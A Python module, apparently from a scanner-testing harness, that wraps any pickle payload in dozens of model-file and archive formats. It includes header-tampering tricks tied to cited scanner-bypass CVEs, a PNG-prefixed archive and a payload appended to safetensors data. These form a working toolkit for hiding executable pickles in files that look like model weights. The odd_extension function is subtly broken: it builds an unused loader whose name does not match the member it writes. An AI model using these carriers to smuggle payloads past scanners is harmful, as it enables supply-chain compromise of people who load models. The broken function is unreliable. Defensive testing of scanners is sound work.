"""Ways in which a pickle reaches a loader: every function takes the bytes of a pickle and gives (suffix, bytes, loader)."""
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib


def zip_of(members, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def tar_of(members, mode='w', kinds=None):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def torch_members(payload, name='archive'):
    return [
        (f'{name}/data.pkl', payload),
        (f'{name}/byteorder', b'little'),
        (f'{name}/data/0', struct.pack('<4f', 1, 2, 3, 4)),
        (f'{name}/version', b'3\n'),
    ]


def npy_objects(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += ' ' * (-(len(header) + 11) % 64) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode() + payload


def legacy_torch(payload):
    import pickle

    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    return magic + pickle.dumps({'protocol_version': 1001, 'little_endian': True}, 2) + payload + pickle.dumps([], 2)


def seven(payload):
    import os
    import tempfile

    import py7zr

    out = io.BytesIO()
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, 'data.pkl')
        with open(path, 'wb') as file:
            file.write(payload)
        with py7zr.SevenZipFile(out, 'w') as archive:
            archive.write(path, 'archive/data.pkl')
    return out.getvalue()


def lz4(payload):
    import lz4.frame

    return lz4.frame.compress(payload)


def zstd(payload):
    import zstandard

    return zstandard.ZstdCompressor().compress(payload)


def duplicate_zip(payload):
    import pickle
    import warnings

    warnings.simplefilter('ignore')
    return zip_of([('archive/data.pkl', pickle.dumps({'a': 1})), *torch_members(payload)])


def flagged_zip(payload, offset=6):
    """Encryption bit set in the local headers only (CVE-2025-1945)."""
    data = bytearray(zip_of(torch_members(payload)))
    at = data.find(b'PK\x03\x04')
    while at >= 0:
        data[at + offset] |= 1
        at = data.find(b'PK\x03\x04', at + 4)
    return bytes(data)


def renamed_local(payload):
    """The local header has another name than the directory (CVE-2025-1944)."""
    data = bytearray(zip_of(torch_members(payload)))
    data[30:46] = b'archive/readme.m'
    return bytes(data)


def bad_crc(payload):
    data = bytearray(zip_of(torch_members(payload)))
    at = data.find(b'PK\x01\x02')
    data[at + 16] ^= 0xFF
    data[14] ^= 0xFF
    return bytes(data)


def odd_extension(payload):
    """The pickle has another extension than scanners look for (CVE-2025-1889); data.pkl loads it."""
    import pickle

    loader = b'\x80\x02cjoblib\nload\nX\x0b\x00\x00\x00config.p_db\x85R.'
    return zip_of([('archive/data.pkl', pickle.dumps({'w': 1}, 2)), ('archive/config.p', payload), ('archive/version', b'3')])


def hidden_local(payload):
    """A member that only walkers of local headers see."""
    inner = zip_of([('archive/data.pkl', payload)])
    local = inner[: inner.find(b'PK\x01\x02')]
    import pickle

    outer = zip_of(torch_members(pickle.dumps({'a': 1}, 2)))
    at = outer.find(b'PK\x01\x02')
    eocd = outer.rfind(b'PK\x05\x06')
    moved = bytearray(outer[:at] + local + outer[at:])
    struct.pack_into('<I', moved, eocd + len(local) + 16, at + len(local))
    return bytes(moved)


def prefixed_zip(payload):
    """An image in front, an archive behind."""
    png = b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR' + b'\x00' * 17 + b'\x00\x00\x00\x00IEND\xaeB`\x82'
    return png + zip_of(torch_members(payload))


def safetensors_tail(payload):
    """Well-formed tensors, and an archive behind them."""
    header = json.dumps({'w': {'dtype': 'F32', 'shape': [4], 'data_offsets': [0, 16]}}).encode()
    header += b' ' * (-len(header) % 8)
    return struct.pack('<Q', len(header)) + header + b'\x00' * 16 + zip_of(torch_members(payload))


def keras_npz(payload):
    config = json.dumps({'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 's', 'layers': []}})
    npz = zip_of([('w.npy', npy_objects(payload))])
    return zip_of([('metadata.json', '{"keras_version": "3.5.0"}'), ('config.json', config), ('model.weights.npz', npz)])


def joblib_array_then(payload):
    """A joblib file whose inline array is followed by the payload as a second object of the same stream."""
    import joblib
    import numpy

    out = io.BytesIO()
    joblib.dump([numpy.arange(100.0)], out)
    return out.getvalue()[:-1] + b'0' + payload


def tar_torch(payload):
    """The oldest format of PyTorch: a tar with pickles."""
    return tar_of([('storages', payload), ('tensors', b'\x80\x02K\x00.'), ('pickle', b'\x80\x02N.'), ('sys_info', b'\x80\x02}.')])


def jit_constants(payload):
    return zip_of(
        [
            ('m/data.pkl', b'\x80\x02}q\x00.'),
            ('m/constants.pkl', payload),
            ('m/code/__torch__.py', 'class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n'),
            ('m/version', b'3\n'),
        ]
    )


def carriers():
    """(technique, suffix, function, loader for the proof or None, synthetic)"""
    plain = lambda p: p
    return [
        ('raw-pkl', '.pkl', plain, 'pickle', False),
        ('raw-bin', '.bin', plain, 'pickle', False),
        ('raw-noext', '', plain, 'pickle', False),
        ('raw-dat', '.dat', plain, 'pickle', False),
        ('raw-safetensors-name', '.safetensors', plain, 'pickle', False),
        ('joblib-zlib', '.joblib', lambda p: zlib.compress(p), 'joblib', False),
        ('joblib-gzip', '.joblib.gz', lambda p: gzip.compress(p), 'joblib', False),
        ('joblib-bz2', '.joblib.bz2', lambda p: bz2.compress(p), 'joblib', False),
        ('joblib-xz', '.joblib.xz', lambda p: lzma.compress(p), 'joblib', False),
        ('joblib-lzma', '.joblib.lzma', lambda p: lzma.compress(p, format=lzma.FORMAT_ALONE), 'joblib', False),
        ('joblib-lz4', '.joblib.lz4', lz4, 'joblib', False),
        ('joblib-array', '.joblib', joblib_array_then, 'joblib', False),
        ('zstd-pkl', '.pkl.zst', zstd, 'pandas-zstd', False),
        ('torch-zip', '.pt', lambda p: zip_of(torch_members(p)), 'torch', False),
        ('torch-zip-deflated', '.pth', lambda p: zip_of(torch_members(p), zipfile.ZIP_DEFLATED), None, False),
        ('torch-legacy', '.pth', legacy_torch, 'torch', False),
        ('torch-tar', '.pt', tar_torch, None, False),
        ('torch-duplicate', '.pt', duplicate_zip, None, False),
        ('torch-flag', '.pt', flagged_zip, None, False),
        ('torch-renamed', '.pt', renamed_local, None, False),
        ('torch-crc', '.pt', bad_crc, None, False),
        ('torch-extension', '.pt', odd_extension, None, False),
        ('torch-hidden', '.pt', hidden_local, None, False),
        ('png-zip', '.png', prefixed_zip, None, False),
        ('safetensors-zip', '.safetensors', safetensors_tail, None, False),
        ('jit-constants', '.pt', jit_constants, None, False),
        ('npy', '.npy', npy_objects, 'numpy', False),
        ('npz', '.npz', lambda p: zip_of([('a.npy', npy_objects(p))]), 'numpy', False),
        ('7z', '.pt', seven, None, False),
        ('tar-gz', '.tar.gz', lambda p: tar_of([('model/model.pkl', p)], 'w:gz'), None, False),
        ('tar-xz', '.tar.xz', lambda p: tar_of([('model/model.pkl', p)], 'w:xz'), None, False),
        ('nested-zip', '.zip', lambda p: zip_of([('inner.zip', zip_of([('model.pkl', p)], zipfile.ZIP_DEFLATED))]), None, False),
        ('zip-in-tar', '.tar', lambda p: tar_of([('a/weights.pt', zip_of(torch_members(p)))]), None, False),
        ('mar', '.mar', lambda p: zip_of([('MAR-INF/MANIFEST.json', '{"model": {"serializedFile": "m.pt", "handler": "image_classifier"}}'), ('m.pt', zip_of(torch_members(p)))]), None, True),
        ('nemo-tar', '.nemo', lambda p: tar_of([('./model_config.yaml', b'name: m\n'), ('./model_weights.ckpt', zip_of(torch_members(p)))]), None, True),
        ('keras-npz', '.keras', keras_npz, None, True),
        ('skops-pickle', '.skops', lambda p: zip_of([('schema.json', '{"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [], "protocol": 2, "_skops_version": "0.10"}'), ('140.pkl', p)]), None, True),
        ('gz-of-zip', '.pt.gz', lambda p: gzip.compress(zip_of(torch_members(p))), None, False),
        ('pdparams', '.pdparams', plain, 'pickle', False),
        ('ckpt-lightning', '.ckpt', lambda p: zip_of(torch_members(p, 'epoch=1')), 'torch', False),
    ]
